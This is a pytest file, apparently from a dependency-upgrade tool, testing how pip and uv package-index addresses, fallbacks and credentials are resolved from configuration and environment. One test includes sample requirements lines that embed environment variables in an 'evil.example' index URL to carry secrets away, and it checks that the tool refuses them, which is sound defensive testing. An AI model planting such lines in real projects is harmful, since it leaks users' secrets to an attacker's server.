"""Where packages come from: pip's and uv's own configuration, in their order, and nobody's address else."""

from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from tests.ecosystems.pip.folder import read
from upgrader.ecosystems import pip
from upgrader.ecosystems.base import Registry

MAIN = "https://main.example/simple"
DEFAULT = "https://default.example/simple"


class Asked:
    """A door that answers like a pip or a uv that carries DEFAULT, or like a machine without them."""

    def __init__(self, *, pip: bool = True, uv: bool = False) -> None:
        self.pip = pip
        self.uv = uv
        self.calls: list[Sequence[str]] = []

    def __call__(self, argv: Sequence[str], *, cwd: Path, env: Mapping[str, str]) -> str | None:
        self.calls.append(argv)
        if argv[0] == "uv":
            help_text = f"  --default-index  The default package index (by\n default: <{DEFAULT}>) [env: X=]"
            return help_text if self.uv else None
        return DEFAULT if self.pip and "-c" in argv else None


def located(
    root: Path, files: Mapping[str, str], env: Mapping[str, str] | None = None, ask: Asked | None = None
) -> Registry:
    """The registry of the first file's project, for a user whose home is `home` below the root."""
    project = read(root, files).project
    home = {"HOME": str(root / "home"), "XDG_CONFIG_DIRS": str(root / "etc")}
    return pip.locate_registry(root, project, home | dict(env or {}), ask or Asked())


PIP = {"requirements.txt": "a==1\n"}
UV = {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["a"]\n[tool.uv]\n'}


def test_nothing_is_sent_anywhere_without_a_client(tmp_path: Path) -> None:
    for files in (PIP, UV):
        registry = located(tmp_path, files, ask=Asked(pip=False))
        assert (registry.url, registry.fallbacks) == ("", ())
        assert "no index is configured" in registry.problem


@pytest.mark.parametrize("ask", [Asked(), Asked(pip=False, uv=True)], ids=["pip", "uv"])
@pytest.mark.parametrize("files", [PIP, UV], ids=["requirements", "uv project"])
def test_the_default_is_the_clients_own(tmp_path: Path, files: Mapping[str, str], ask: Asked) -> None:
    assert located(tmp_path, files, ask=ask).url == DEFAULT


def test_no_file_of_the_project_is_imported_to_learn_the_default(tmp_path: Path) -> None:
    ask = Asked(pip=False)
    located(tmp_path, PIP, ask=ask)
    assert ask.calls
    assert all("-I" in argv for argv in ask.calls if argv[0] != "uv")


def test_a_configured_index_is_not_asked_for(tmp_path: Path) -> None:
    ask = Asked()
    assert located(tmp_path, PIP, {"PIP_INDEX_URL": f"{MAIN}/"}, ask).url == MAIN
    assert located(tmp_path, UV, {"UV_DEFAULT_INDEX": MAIN}, ask).url == MAIN
    assert ask.calls == []


def test_pips_files_and_variables_in_their_order(tmp_path: Path) -> None:
    def conf(path: str, text: str) -> None:
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)

    steps: list[tuple[str, str, dict[str, str]]] = [
        ("etc/pip/pip.conf", "[global]\nindex-url = https://site.example/s\n", {}),
        ("home/.pip/pip.conf", "[global]\nindex-url = https://legacy.example/s\n", {}),
        ("home/.config/pip/pip.conf", "[global]\nindex_url = https://user.example/s\n", {}),
        ("venv/pip.conf", "[global]\nindex-url = https://venv.example/s\n", {"VIRTUAL_ENV": "venv"}),
        ("own.conf", "[global]\nindex-url = https://own.example/s\n", {"PIP_CONFIG_FILE": "own.conf"}),
    ]
    env: dict[str, str] = {}
    for path, text, added in steps:
        conf(path, text)
        env |= {name: str(tmp_path / value) for name, value in added.items()}
        assert located(tmp_path, PIP, env).url == text.split(" = ")[1].strip()
    conf(
        "own.conf",
        "[global]\nindex-url = https://own.example/s\n[install]\nindex-url = https://install.example/s\n",
    )
    assert located(tmp_path, PIP, env).url == "https://install.example/s"
    assert located(tmp_path, PIP, env | {"PIP_INDEX_URL": MAIN}).url == MAIN
    assert located(tmp_path, PIP, {"PIP_CONFIG_FILE": "/dev/null"}).url == DEFAULT


def test_a_special_file_hides_the_users(tmp_path: Path) -> None:
    (tmp_path / "home/.config/pip").mkdir(parents=True)
    (tmp_path / "home/.config/pip/pip.conf").write_text(f"[global]\nindex-url = {MAIN}\n")
    (tmp_path / "own.conf").write_text("[global]\ntimeout = 5\n")
    assert located(tmp_path, PIP, {"PIP_CONFIG_FILE": str(tmp_path / "own.conf")}).url == DEFAULT


def test_extra_indexes_of_pip_count_together(tmp_path: Path) -> None:
    env = {"PIP_INDEX_URL": MAIN, "PIP_EXTRA_INDEX_URL": "https://b.example/s  https://c.example/s/"}
    registry = located(tmp_path, PIP, env)
    assert (registry.url, registry.fallbacks) == (MAIN, ("https://b.example/s", "https://c.example/s"))
    assert registry.merged


def test_an_index_in_a_requirements_file_replaces_the_users(tmp_path: Path) -> None:
    env = {"PIP_INDEX_URL": MAIN, "PIP_EXTRA_INDEX_URL": "https://b.example/s"}
    text = "--index-url https://r.example/s\n--extra-index-url https://x.example/s\na==1\n"
    registry = located(tmp_path, {"requirements.txt": text}, env)
    assert (registry.url, registry.fallbacks) == ("https://r.example/s", ("https://x.example/s",))


def test_credentials_go_to_their_own_host_alone(tmp_path: Path) -> None:
    env = {"PIP_INDEX_URL": "https://me:p%40ss@main.example:8443/s", "PIP_EXTRA_INDEX_URL": MAIN}
    registry = located(tmp_path, PIP, env)
    assert registry.url == "https://main.example:8443/s"
    assert registry.credentials == {"https://main.example:8443": "Basic bWU6cEBzcw=="}
    assert "p%40ss" not in registry.url + str(registry.fallbacks)


@pytest.mark.parametrize("secret", ["${SECRET}", "${HOME}"])
def test_a_repository_cannot_carry_variables_away(tmp_path: Path, secret: str) -> None:
    for line in (f"--index-url https://evil.example/{secret}/s", f"-i https://{secret}@evil.example/s"):
        registry = located(tmp_path, {"requirements.txt": f"{line}\na\n"}, {"SECRET": "hunter2"})
        assert registry.problem.startswith("requirements.txt:1: ")
        assert "hunter2" not in str(registry)
        assert registry.url == ""


PROBLEMS = {
    "no index": (PIP, {"PIP_NO_INDEX": "1"}, "no-index is set"),
    "no index in the file": ({"requirements.txt": "--no-index\na\n"}, {}, "no-index is set"),
    "a folder": (PIP, {"PIP_INDEX_URL": "/srv/wheels"}, "PIP_INDEX_URL: "),
    "a file address": (PIP, {"PIP_INDEX_URL": "file:///srv/wheels"}, "PIP_INDEX_URL: "),
    "no uv index": (UV, {"UV_NO_INDEX": "true"}, "no-index is set"),
    "an unknown age": (UV, {"UV_EXCLUDE_NEWER": "yesterday", "UV_DEFAULT_INDEX": MAIN}, "UV_EXCLUDE_NEWER: "),
    "an unknown index": (
        {"pyproject.toml": '[tool.uv.sources]\na = {index = "corp"}\n'},
        {},
        "there is no index 'corp'",
    ),
}


@pytest.mark.parametrize(("files", "env", "problem"), PROBLEMS.values(), ids=PROBLEMS)
def test_what_cannot_be_asked_is_a_problem(
    tmp_path: Path, files: Mapping[str, str], env: Mapping[str, str], problem: str
) -> None:
    registry = located(tmp_path, files, env)
    assert problem in registry.problem
    assert registry.url == ""


@pytest.mark.parametrize(
    ("path", "text", "files"),
    [
        ("home/.config/pip/pip.conf", "index-url = x\n", PIP),
        ("home/.config/pip/pip.conf", "[global]\n[global]\n", PIP),
        ("home/.config/uv/uv.toml", "[", UV),
    ],
)
def test_a_broken_configuration_is_a_problem(
    tmp_path: Path, path: str, text: str, files: Mapping[str, str]
) -> None:
    (tmp_path / path).parent.mkdir(parents=True)
    (tmp_path / path).write_text(text)
    assert path in located(tmp_path, files).problem


UV_INDEXES = """\
[project]
name = "x"
dependencies = ["a", "b"]
[tool.uv]
exclude-newer = "7 days"
extra-index-url = ["https://extra.example/s"]
[[tool.uv.index]]
name = "first"
url = "https://first.example/s/"
[[tool.uv.index]]
name = "corp"
url = "https://corp.example/s"
explicit = true
[[tool.uv.index]]
url = "https://last.example/s"
default = true
[tool.uv.sources]
B = { index = "corp" }
"""


def test_uvs_indexes_in_their_order(tmp_path: Path) -> None:
    env = {
        "UV_INDEX": "named=https://env.example/s",
        "UV_INDEX_CORP_USERNAME": "u",
        "UV_INDEX_CORP_PASSWORD": "p:%",
    }
    registry = located(tmp_path, {"pyproject.toml": UV_INDEXES}, env)
    assert [registry.url, *registry.fallbacks] == [
        "https://env.example/s",
        "https://first.example/s",
        "https://extra.example/s",
        "https://last.example/s",
    ]
    assert registry.scopes == {"b": "https://corp.example/s"}
    assert registry.credentials == {"https://corp.example": "Basic dTpwOiU="}
    assert registry.cooldown_days == 7
    assert not registry.merged


def test_uvs_variables_win_over_its_files(tmp_path: Path) -> None:
    env = {"UV_DEFAULT_INDEX": MAIN, "UV_EXCLUDE_NEWER": "P2D", "UV_INDEX_STRATEGY": "unsafe-best-match"}
    registry = located(tmp_path, {"pyproject.toml": UV_INDEXES}, env)
    assert registry.fallbacks[-1] == MAIN
    assert registry.cooldown_days == 2
    assert registry.merged


def test_uv_toml_of_project_user_and_system(tmp_path: Path) -> None:
    (tmp_path / "home/.config/uv").mkdir(parents=True)
    (tmp_path / "etc/uv").mkdir(parents=True)
    (tmp_path / "home/.config/uv/uv.toml").write_text('[[index]]\nurl = "https://user.example/s"\n')
    (tmp_path / "etc/uv/uv.toml").write_text('index-url = "https://system.example/s"\n')
    files = {"pyproject.toml": UV_INDEXES, "uv.toml": '[[index]]\nurl = "https://own.example/s"\n'}
    registry = located(tmp_path, {**files, "pyproject.toml": UV["pyproject.toml"]})
    assert [registry.url, *registry.fallbacks] == [
        "https://own.example/s",
        "https://user.example/s",
        "https://system.example/s",
    ]
    assert located(tmp_path, UV, {"UV_NO_CONFIG": "1"}).url == DEFAULT
    (tmp_path / "special.toml").write_text(f'index-url = "{MAIN}"\n')
    assert located(tmp_path, UV, {"UV_CONFIG_FILE": str(tmp_path / "special.toml")}).url == MAIN


def test_a_uv_project_does_not_ask_pips_index(tmp_path: Path) -> None:
    assert located(tmp_path, UV, {"PIP_INDEX_URL": MAIN}).url == DEFAULT
    assert located(tmp_path, PIP, {"UV_DEFAULT_INDEX": MAIN}).url == DEFAULT
